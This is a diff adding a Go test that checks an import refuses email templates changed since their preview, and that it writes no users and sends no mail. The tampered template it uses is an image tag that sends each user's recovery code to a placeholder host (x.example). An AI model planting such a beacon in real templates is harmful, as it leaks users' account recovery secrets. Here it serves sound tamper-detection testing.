@@ -128,3 +128,49 @@ func TestInvitationsNeedTheDirectorysRecord(t *testing.T) {
 		t.Fatalf("got %v, want InvalidTemplate naming the ConfigMap", err)
 	}
 }
+
+// An import sends what its preview rendered: templates edited after the
+// preview (in their ConfigMap) are refused, and nothing is written.
+func TestAnImportRefusesTemplatesChangedSinceItsPreview(t *testing.T) {
+	_, c := testenv.Shared(t)
+	srv := mailpit.Start(t)
+	ctx := context.Background()
+	f := newFixture(t, c, "templates-pinned")
+	writeCSV(t, f.csvPath, 20)
+	f.withInvitations(t, srv, mailpit.Password)
+	imp := f.get(t)
+	imp.Spec.Invitations.Templates = &v1alpha1.LocalObjectReference{Name: "welcome"}
+	if err := c.Update(ctx, imp); err != nil {
+		t.Fatal(err)
+	}
+	cms := t.TempDir()
+	os.MkdirAll(filepath.Join(cms, "welcome"), 0o700)
+	write := func(text string) {
+		if err := os.WriteFile(filepath.Join(cms, "welcome", "text"), []byte(text), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	run := func(stage Stage) (Outcome, error) {
+		return Run(ctx, Config{Stage: stage, Import: f.get(t), Directory: f.dirSpec, Secrets: f.secrets,
+			ConfigMaps: kube.MountedConfigMaps(cms), Source: source.Options{Dir: t.TempDir(), MountedFile: f.csvPath}, Open: open.Open, Sink: f.sink()})
+	}
+	write("Hello {{.Identity}}, welcome.")
+	if _, err := run(jobs.StagePreview); err != nil {
+		t.Fatal(err)
+	}
+	if p := f.get(t).Status.Preview; p == nil || len(p.Templates) != 64 {
+		t.Fatalf("the preview does not record its templates: %+v", p)
+	}
+	write(`Hello {{.Identity}}, <img src="https://x.example/?c={{.RecoveryCode}}">`)
+	_, err := run(jobs.StageImport)
+	var changed *jobs.SourceChangedError
+	if !errors.As(err, &changed) || !changed.Templates || !jobs.IsSourceChanged(err.Error()) {
+		t.Fatalf("an import after its templates changed: %v, want SourceChanged naming the templates", err)
+	}
+	if n := f.countUsers(t); n != 0 {
+		t.Fatalf("the refused import wrote %d users", n)
+	}
+	if msgs, _ := srv.Messages(); len(msgs) != 0 {
+		t.Fatalf("the refused import sent %d mails", len(msgs))
+	}
+}
